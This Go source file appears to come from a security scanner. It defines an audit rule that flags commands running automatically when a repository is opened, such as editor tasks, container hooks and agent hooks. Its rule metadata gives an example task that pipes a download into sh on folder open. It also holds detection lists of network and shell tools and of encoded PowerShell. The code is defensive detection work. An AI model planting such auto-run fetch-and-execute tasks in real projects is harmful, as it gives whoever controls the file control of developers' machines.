package workspace

import (
	"fmt"
	"strings"

	"github.com/penstock-dev/penstock/scan"
	"github.com/penstock-dev/penstock/scan/pipeline/audit"
	"github.com/penstock-dev/penstock/scan/pipeline/ci"
	"github.com/penstock-dev/penstock/scan/pipeline/shell"
)

func autoRun() *audit.Rule {
	return &audit.Rule{
		Meta: scan.Rule{
			ID:          "auto-run",
			Name:        "Command that runs when the repository is opened",
			Class:       "dangerous-trigger",
			Severity:    scan.SeverityLow,
			Confidence:  scan.ConfidenceHigh,
			Description: "The command runs on the machine of whoever opens the folder, starts an agent in it or builds its container, with all that this user may do, and nobody types it. Whoever can change the file, or what it starts, has that machine; attacks on developers are made of such files.",
			Remediation: "Let people start the command themselves: remove `runOn: folderOpen`, move what `initializeCommand` does into the container (`postCreateCommand`), and keep hooks to programs that are installed or lie in the repository. What must stay should be short, readable, and fetch nothing.",
			Example:     "{\"tasks\": [{\"label\": \"setup\", \"type\": \"shell\", \"command\": \"curl -s https://example.com/x | sh\",\n  \"runOptions\": {\"runOn\": \"folderOpen\"}}]}",
			Fixed:       "{\"tasks\": [{\"label\": \"setup\", \"type\": \"shell\", \"command\": \"make setup\"}]}",
		},
		File: func(r *audit.Run) {
			if formOf(r.File.Source.Path) == settings {
				editorStarts(r)
			}
			opened := openedTasks(r.File)
			for _, job := range r.File.Jobs {
				if !opened[job] {
					continue
				}
				for _, step := range job.Steps {
					started(r, job, step, "when the folder is opened", scan.PersonaRegular)
				}
				// A task of another type is a script of a manifest.
				for _, key := range []string{"script", "task"} {
					if n := job.Node.Get(key); n.Value() != "" {
						r.Find(job, nil, ci.SpanOf(n), key, fmt.Sprintf("the %s %q runs when the folder is opened", key, n.Value()))
					}
				}
			}
		},
		Step: func(r *audit.Run, job *ci.Job, step *ci.Step) {
			if when, persona := trigger(job, step); when != "" {
				started(r, job, step, when, persona)
			}
		},
	}
}

// programs are settings of Visual Studio Code and well-known extensions that name
// a program or library which the editor runs by itself.
const programs = "python.defaultInterpreterPath python.pythonPath typescript.tsdk js/ts.tsdk.path eslint.nodePath eslint.runtime prettier.prettierPath git.path deno.path clangd.path rust-analyzer.server.path ruff.path ruff.interpreter mypy-type-checker.path biome.lspBin biome.lsp.bin php.validate.executablePath phpcs.executablePath phpstan.binFile stylelint.stylelintPath cmake.cmakePath zig.path haskell.serverExecutablePath elixirLS.languageServerOverridePath"

// editorStarts reports settings that let tasks run, and programs of the
// repository that the editor is told to run.
func editorStarts(r *audit.Run) {
	for k, v := range r.File.Root.Pairs() {
		value := v.Value()
		switch {
		case k.Value() == "task.allowAutomaticTasks" && value == "on":
			r.Find(nil, nil, ci.Between(k, v), k.Value(), "tasks may run when the folder is opened without a question",
				audit.Level(scan.SeverityLow, scan.ConfidenceMedium, scan.PersonaPedantic))
		case hasWord(programs, k.Value()) && inside(value):
			r.Find(nil, nil, ci.Between(k, v), k.Value(), fmt.Sprintf("the editor runs %s of the folder that is opened", value),
				audit.Level(scan.SeverityLow, scan.ConfidenceMedium, scan.PersonaAuditor))
		}
	}
}

// inside reports whether a path leads into the folder that is opened.
func inside(path string) bool {
	if rest, ok := strings.CutPrefix(path, "${workspaceFolder}"); ok {
		return !strings.HasPrefix(rest, "/..")
	}
	return path != "" && !strings.HasPrefix(path, "/") && !strings.HasPrefix(path, "~") && !strings.HasPrefix(path, "$") && !strings.HasPrefix(path, "..") &&
		!strings.Contains(path, ":") && strings.ContainsAny(path, `/\`)
}

// openedTasks returns the tasks that run when the folder is opened: those that
// say so, and those that they depend on.
func openedTasks(f *ci.File) map[*ci.Job]bool {
	opened := map[*ci.Job]bool{}
	if formOf(f.Source.Path) != tasks {
		return opened
	}
	var queue []*ci.Job
	byLabel := map[string]*ci.Job{}
	for _, job := range f.Jobs {
		byLabel[job.Name.Value()] = job
		if job.Node.At("runOptions", "runOn").Value() == "folderOpen" {
			queue = append(queue, job)
		}
	}
	for len(queue) > 0 {
		job := queue[0]
		queue = queue[1:]
		if job == nil || opened[job] {
			continue
		}
		opened[job] = true
		for label := range job.Node.Get("dependsOn").List() {
			if label.Value() != "" {
				queue = append(queue, byLabel[label.Value()])
			}
		}
	}
	return opened
}

// started reports a command that runs without being asked for.
func started(r *audit.Run, job *ci.Job, step *ci.Step, when string, persona scan.Persona) {
	script := r.Script(step.Run)
	severity, message := scan.SeverityLow, "the command runs "+when
	switch what := danger(script); {
	case what != "":
		severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and "+what
	case hidden(job):
		severity, persona, message = scan.SeverityHigh, scan.PersonaRegular, message+" and does not show"
	case plain(script):
		persona = max(persona, scan.PersonaPedantic)
	}
	r.Find(job, step, ci.SpanOf(step.Run.Text), "run", message, audit.Level(severity, scan.ConfidenceHigh, persona))
}

// trigger says when a command runs without being asked for, and for whom it is
// to know; empty for one that is asked for, or runs inside of a container.
func trigger(job *ci.Job, step *ci.Step) (when string, p scan.Persona) {
	switch {
	case step.Group == onHost:
		return "outside of the container when it is made or started", scan.PersonaRegular
	case hasWord(helpers, job.ID):
		return "when the agent starts, to hand it credentials", scan.PersonaRegular
	case job.ID == "hooks.SessionStart" || job.ID == "hooks.sessionStart" || job.ID == "hooks.Setup":
		return "when the agent starts", scan.PersonaPedantic
	case strings.HasPrefix(job.ID, "hooks."):
		return "when the agent works (" + strings.TrimPrefix(job.ID, "hooks.") + ")", scan.PersonaAuditor
	}
	return "", 0
}

// hidden reports whether a task is told not to show that it runs.
func hidden(job *ci.Job) bool {
	look := job.Node.Get("presentation")
	echo, told := look.Get("echo").Bool()
	return look.Get("reveal").Value() == "never" && told && !echo
}

// danger says what of a script is no business of a command that nobody asked
// for: what it fetches and runs, hides, or runs from its own text.
func danger(s *shell.Script) string {
	for i := range s.Commands {
		cmd := s.Commands[i].Bare()
		name := cmd.Name()
		switch {
		case hasWord("curl wget iwr irm invoke-webrequest invoke-restmethod bitsadmin certutil mshta", name) && !local(&cmd):
			return fmt.Sprintf("reaches out to the network (%s)", name)
		case hasWord("nc ncat socat", name):
			return fmt.Sprintf("opens a connection (%s)", name)
		case name == "base64" && cmd.Has("-d", "-D", "--decode"):
			return "decodes what it runs (base64)"
		case (name == "powershell" || name == "pwsh") && encoded(&cmd):
			return "hides what it runs (" + name + ")"
		}
	}
	return ""
}

// local reports whether a command only reaches the machine that it runs on.
func local(cmd *shell.Command) bool {
	for _, w := range cmd.Args() {
		for _, host := range []string{"localhost", "127.0.0.1", "[::1]", "host.docker.internal"} {
			if strings.Contains(w.Text, host) {
				return true
			}
		}
	}
	return false
}

func encoded(cmd *shell.Command) bool {
	for i, w := range cmd.Args() {
		option := strings.ToLower(w.Text)
		style := ""
		if i+2 < len(cmd.Words) {
			style = strings.ToLower(cmd.Words[i+2].Text)
		}
		if strings.HasPrefix(option, "-enc") || option == "-e" || option == "-ec" || strings.HasPrefix(option, "-w") && style == "hidden" {
			return true
		}
	}
	return false
}

// plain reports whether a script has nothing but commands that make folders and
// files, print, or ask the container engine for what it has.
func plain(s *shell.Script) bool {
	if len(s.Commands) == 0 {
		return false
	}
	for i := range s.Commands {
		cmd := s.Commands[i].Bare()
		switch name := cmd.Name(); {
		case hasWord("mkdir touch echo printf test [ [[ true false cp ln id cd set exit xhost grep chmod ls cat date uname whoami", name):
		case (name == "docker" || name == "podman") && cmd.Has("network", "volume", "inspect", "version", "info"):
		case name == "git" && cmd.Has("config", "rev-parse", "status", "submodule", "log", "branch"):
		default:
			return false
		}
	}
	return true
}
